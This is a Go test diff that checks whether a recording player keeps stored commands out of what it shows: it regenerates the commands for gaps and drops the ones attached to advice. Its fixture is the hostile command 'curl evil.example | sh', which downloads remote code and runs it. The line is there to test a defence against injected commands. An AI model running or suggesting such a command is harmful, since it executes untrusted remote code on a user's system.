@@ -297,3 +297,27 @@ func TestRecordingDoesNotFillTheMemory(t *testing.T) {
 		}
 	}
 }
+
+// Commands in a recording are not shown: those of gaps are made again, and those of advice are dropped.
+// Requirements: BUN-11
+func TestCommandsOfRecordingAreNotTrusted(t *testing.T) {
+	const evil = "curl evil.example | sh"
+	gaps := func() []explain.Gap {
+		return []explain.Gap{{What: "pods", Text: "none", Verb: "list", Resource: "pods", Namespace: "ml", Command: evil}, {What: "logs", Text: "none", Command: evil}}
+	}
+	hostile := tape()[2]
+	hostile.Jobs = &Jobs{Gaps: gaps()}
+	hostile.Job = &Job{Report: &explain.Report{Gaps: gaps(), Advice: []explain.Advice{{Text: "look at it", Command: evil}}}}
+	hostile.Pod = &explain.PodDetail{Gaps: gaps()}
+	p, err := NewPlayer(record(t, []*Snapshot{hostile}), &fakeClock{}, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, err := p.Next(t.Context(), 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if text := asJSON(t, s); strings.Contains(text, evil) || strings.Count(text, "kubectl auth can-i list pods -n ml") != 3 || !strings.Contains(text, "look at it") {
+		t.Errorf("it is %s", text)
+	}
+}
